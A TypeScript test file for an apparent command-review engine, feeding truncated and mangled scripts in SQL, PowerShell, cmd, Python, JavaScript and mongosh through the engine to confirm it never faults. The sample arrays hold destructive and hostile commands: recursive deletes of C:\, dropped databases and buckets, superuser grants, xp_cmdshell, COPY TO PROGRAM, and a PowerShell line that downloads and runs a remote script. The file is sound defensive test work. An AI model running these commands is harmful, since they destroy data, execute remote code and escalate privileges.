import assert from 'node:assert/strict';
import type { Dialect } from '../../../src/core/model/operation';
import { rulePacks } from '../../../src/core/rules/index.generated';
import { testEngine, workspace, type TestEngine } from '../../support/engine';

/*
 * What people and agents get wrong: a word that is missing, a text that ends too early, a word that stands twice. Every
 * rule and every reader must answer it; a fault of ours, which the engine would turn into an unknown, is a failure here.
 */

/** The line cut after each word, without each word, and with each word twice. */
function mangled(line: string): readonly string[] {
  const words = line.split(' ');
  return words.flatMap((word, at) => [
    words.slice(0, at + 1).join(' '),
    [...words.slice(0, at), ...words.slice(at + 1)].join(' '),
    [...words.slice(0, at + 1), word, ...words.slice(at + 1)].join(' '),
    [...words.slice(0, at), '"$unknown"', ...words.slice(at + 1)].join(' '),
  ]);
}

/** The text cut after every few characters, and without a few of them. */
function cut(text: string): readonly string[] {
  return Array.from({ length: text.length }, (_, at) => [
    text.slice(0, at + 1),
    text.slice(0, at) + text.slice(at + 2),
  ]).flat();
}

const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;

const sql = [
  'BEGIN; DELETE FROM "a b".c USING d WHERE c.id = d.id AND d.n NOT IN (SELECT 1) RETURNING *; SAVEPOINT s; ROLLBACK TO s; COMMIT;',
  'WITH gone AS (DELETE FROM t RETURNING id), kept AS (SELECT 1) INSERT INTO log SELECT * FROM gone ON CONFLICT DO NOTHING; TRUNCATE a, b CASCADE;',
  "ALTER TABLE x DISABLE TRIGGER ALL, DROP CONSTRAINT IF EXISTS c, ALTER COLUMN d TYPE text; DROP TABLE IF EXISTS a, b; GRANT ALL ON *.* TO 'u'@'%';",
  'UPDATE t SET a = 1, b = (SELECT 2) WHERE id IS NOT NULL OR 1 = 1 LIMIT 5; MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE;',
  "DO $x$ BEGIN EXECUTE 'DROP TABLE ' || name; END $x$; COPY t TO PROGRAM 'sh'; SELECT * INTO OUTFILE '/tmp/x' FROM t; /*!50000 DROP DATABASE d */;",
  "CREATE USER u IDENTIFIED BY 'p'; ALTER ROLE r SUPERUSER; REVOKE ALL ON t FROM u; SET ROLE x; EXEC xp_cmdshell 'dir'; VACUUM FULL t; REINDEX TABLE t;",
];

const powershell = [
  'Get-ChildItem -Path "$HOME\\x" -Recurse | Where-Object { $_.Name -like "*.tmp" } | ForEach-Object { Remove-Item $_.FullName -Force }',
  '$a = @("b", "c"); foreach ($x in $a) { if ($x -eq "b") { Remove-Item -Path D:\\$x -Rec -Fo } else { Write-Host "no $($x)" } }',
  '& { param($p) Remove-Item @p } @{ Path = "C:\\"; Recurse = $true }; try { iex (irm https://x.example/i.ps1) } catch { } finally { exit 1 }',
  "function Gone($n) { switch ($n) { 1 { 'a' } default { rm $n } } }; Gone 1 > out.txt 2>&1; while ($true) { break }; [IO.File]::Delete('x')",
  'Invoke-Command -ComputerName web1 -ScriptBlock { Stop-Service w3svc }; Start-Process cmd -ArgumentList "/c","rd /s /q C:\\" -Wait; . ./x.ps1',
  '$t = @"\nab $HOME\n"@\nSet-Content -Path $t -Value @\'\nq\n\'@ -WhatIf:$false; powershell -NoProfile -EncodedCommand ZABpAHIA; Get-Content a | Out-Null && git push -f',
];

const cmd = [
  'if exist "C:\\x" (rd /s /q "C:\\x" & del /f /q *.log) else echo no ^& more && for %i in (a b) do @del %i',
  'set X=1 & call clean.bat %X% || start /b cmd /c "rmdir /s /q %USERPROFILE%" > out.txt 2>&1 | more',
  'for /f "tokens=1" %a in (\'dir /b\') do (if "%a"=="b" goto end) & :end & powershell -c "Remove-Item x -Recurse" & wsl rm -rf /mnt/c',
];

const python = [
  "import os, shutil as sh, subprocess; d = os.path.join('/tmp', f'a{1}'); sh.rmtree(d + '/x' * 2); subprocess.run(['rm', '-rf', *['a', d]], check=True)",
  "from boto3 import client as c; n = 'a' if True else b; c('s3', region_name='x').delete_bucket(Bucket=n); [os.remove(p) for p in ('a', \"b\")]",
  "import os; os.environ['A'] = 'b'; os.system('echo %s' % 'x'); os.system('rm {}'.format('y')); exec('print(1)'); __import__('os').unlink('a'); x = {'k': 'v'}['k']",
  "import boto3; s = boto3.Session(profile_name='acme-prod'); r = s.resource('s3'); r.Bucket('b').objects.all().delete(); t = -1 + 2; u = ['a', 'b'][0].upper()",
];

const javascript = [
  "const { rmSync: rm } = require('fs'); const d = `${'a'}/b`; rm(d, { recursive: true }); require('child_process').execSync('rm -rf ' + d)",
  "import('node:fs').then(({ promises: p }) => p.rm(['a', 'b'].join('/'))); const x = { k: 'v' }; fetch('https://a.example/' + x.k, { method: 'DELETE' })",
  "const { S3Client: S, DeleteBucketCommand } = require('@aws-sdk/client-s3'); new S({ region: 'x' }).send(new DeleteBucketCommand({ Bucket: y ?? 'b' })); eval('1')",
  "const cp = require('child_process'); cp.spawn('git', ['push', ...['-f'], `${1 + 1}`], { shell: true, cwd: '/x' }); process.env.A = 'b'; (function () { cp.exec(z) })()",
];

const mongo = [
  "use shop; db.orders.drop(); db.getCollection('a b').deleteMany({}); db.users.deleteOne({ _id: 1 }); db.dropDatabase(); db.adminCommand({ shutdown: 1 })",
  "db.getSiblingDB('x').users.updateMany({}, { $set: { a: 1 } }, { upsert: true }); db.runCommand({ drop: 'a' }); db.createUser({ user: 'u', roles: ['root'] }); rs.remove('h')",
];

describe('lines that went wrong', function () {
  this.timeout(120_000);
  let engine: TestEngine;

  before(async () => {
    engine = await testEngine();
  });

  function checkNoFault(script: string, dialect: Dialect): void {
    const operation = { kind: 'run', script, dialect, cwd: workspace, session: 's1', variables: {} } as const;
    const { unknowns, decision } = engine.review(operation);
    const faults = unknowns.filter(({ says }) => says.startsWith('holdpoint failed'));
    assert.deepEqual(faults, [], script);
    assert.ok(!decision.because.some(({ rule }) => rule === 'holdpoint/fault'), script);
  }

  for (const { programs, examples } of rulePacks) {
    it(`are answered by what is known of ${programs[0]}`, () => {
      for (const example of [...examples.catches.map(({ run }) => run), ...examples.leaves]) {
        for (const line of mangled(example)) {
          checkNoFault(line, 'bash');
          if (/^[a-z]+-[a-z]/i.test(line)) checkNoFault(line, 'powershell');
        }
      }
    });
  }

  const ending: readonly (readonly [string, Dialect, readonly string[]])[] = [
    ['PowerShell', 'powershell', powershell.flatMap(cut)],
    ['cmd', 'cmd', cmd.flatMap(cut)],
    ...(
      [
        ['python3 -c', python],
        ['node -e', javascript],
        ['mongosh --eval', mongo],
      ] as const
    ).map(([host, texts]) => [host, 'bash', texts.flatMap(cut).map((text) => `${host} ${quoted(text)}`)] as const),
    ...['psql -c', 'mysql -e', 'sqlcmd -Q', 'sqlite3 a.db', 'bq query'].map(
      (client) => [`SQL for ${client}`, 'bash', sql.flatMap(cut).map((text) => `${client} ${quoted(text)}`)] as const,
    ),
  ];
  for (const [name, dialect, lines] of ending) {
    it(`are answered when a text of ${name} ends early`, () => {
      for (const line of lines) checkNoFault(line, dialect);
    });
  }
});
